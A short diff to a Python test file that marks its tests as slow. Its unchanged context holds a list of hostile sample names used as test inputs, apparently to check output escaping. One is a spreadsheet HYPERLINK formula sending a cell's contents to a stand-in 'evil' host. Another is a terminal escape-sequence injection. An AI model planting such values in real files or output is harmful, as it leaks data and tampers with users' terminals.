@@ -11,6 +11,8 @@ from firstshell.report.words.answer import line, paragraph
 from firstshell.runtime.console import plain
 from quick import write_xdi
 
+pytestmark = pytest.mark.slow
+
 NAMES = ["$\\frac{1$ oxide", '=HYPERLINK("http://evil/?"&A1,"x")', "\x1b]0;PWNED\x07\x1b[31mred"]
 
 
